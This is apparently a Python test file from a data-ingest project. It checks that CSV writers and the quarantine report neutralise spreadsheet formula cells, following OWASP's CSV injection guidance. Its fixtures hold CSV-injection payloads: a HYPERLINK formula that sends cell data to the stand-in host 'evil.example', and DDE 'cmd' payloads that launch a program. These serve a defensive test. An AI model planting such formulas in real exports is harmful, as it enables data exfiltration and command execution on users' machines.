"""Spreadsheet formula cells neutralised the way OWASP's "CSV Injection" page says,
in every CSV ingest writes (the quarantine report)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from graph.load import Loader
from graph.store import GraphStore
from ingest.csvsafe import FORMULA_STARTS, neutralise, writer
from tests.factories import seizure_record, write_ndjson

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_text_cell_that_a_spreadsheet_would_run_gets_a_leading_quote(cell: str) -> None:
    assert cell.startswith(FORMULA_STARTS)
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "value", ["Huaxin Trading", "", "a=b", " =1", "'=1", "深圳", 12, -5, 1.5, None]
)
def test_anything_else_is_left_as_it_is(value: object) -> None:
    assert neutralise(value) == value


def test_the_writer_quotes_every_cell_and_reads_back_as_text() -> None:
    out = io.StringIO()
    rows = [["name", "amount"], *[[cell, -5] for cell in FORMULAS], ['say "hi"', 3]]
    writer(out).writerows(rows)
    text = out.getvalue()
    assert text.splitlines()[0] == '"name","amount"'
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read[1:] == [["'" + cell, "-5"] for cell in FORMULAS] + [['say "hi"', "3"]]


def test_the_quarantine_report_is_neutralised(store: GraphStore, tmp_path: Path) -> None:
    lines = ['=HYPERLINK("http://evil.example","x")', json.dumps(seizure_record(record_id="=1+1"))]
    feed = write_ndjson(tmp_path / "formulas.ndjson", [*lines, "@not json"])
    report = Loader(store, tmp_path / "quarantine").load_file(feed)
    assert report.quarantine_report is not None
    with Path(report.quarantine_report).open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["file", "line", "reason", "raw"]
    raws = [row[3] for row in rows[1:]]
    assert raws == ["'" + lines[0], "'@not json"]
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    # The NDJSON quarantine keeps the rows exactly as they were sent.
    assert report.quarantine_file is not None
    kept = [
        json.loads(line)["raw"]
        for line in Path(report.quarantine_file).read_text().split("\n")
        if line
    ]
    assert kept == [lines[0], "@not json"]
